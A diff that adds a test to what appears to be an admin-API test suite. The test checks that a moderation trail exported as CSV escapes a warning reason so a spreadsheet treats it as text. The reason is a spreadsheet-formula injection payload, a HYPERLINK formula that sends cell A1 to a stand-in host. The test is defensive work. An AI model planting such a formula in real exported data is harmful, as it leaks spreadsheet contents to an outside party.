@@ -297,3 +297,32 @@ describe('operators granted and revoked by an administrator', () => {
     expect(await ok(admin, 'GET', '/api/admin/me')).toEqual({ role: 'admin' });
   });
 });
+
+// Last: its warning is the trail's newest entry, which the tests above do not expect.
+describe('the trail as CSV, opened in a spreadsheet', () => {
+  it('keeps a reason that a spreadsheet would run as a formula as text', async () => {
+    // A post and a report of their own: the accounts above were warned and suspended.
+    const [writer, reader] = [await createSignedInUser(t), await createSignedInUser(t)];
+    for (const u of [writer, reader]) await call(u, 'GET', '/api/user/profile');
+    const { postID } = await ok<{ postID: string }>(writer, 'POST', '/api/social/posts/make-post', {
+      content: 'Wholesale offer, write to me',
+      timelineType: 'user',
+      timelineID: writer.userID,
+    });
+    await ok(reader, 'POST', '/api/reports', {
+      itemType: 'post',
+      itemID: postID,
+      reason: 'spam',
+      text: 'x',
+    });
+    const reason = '=HYPERLINK("http://example.test/?q="&A1,"open")';
+    await ok(moderator, 'POST', '/api/admin/actions', {
+      action: 'warn',
+      itemType: 'post',
+      itemID: postID,
+      reason,
+    });
+    const [header, first] = parseCsv((await call(moderator, 'GET', '/api/admin/trail.csv')).body);
+    expect(first![header!.indexOf('why')]).toBe(`'${reason}`);
+  });
+});
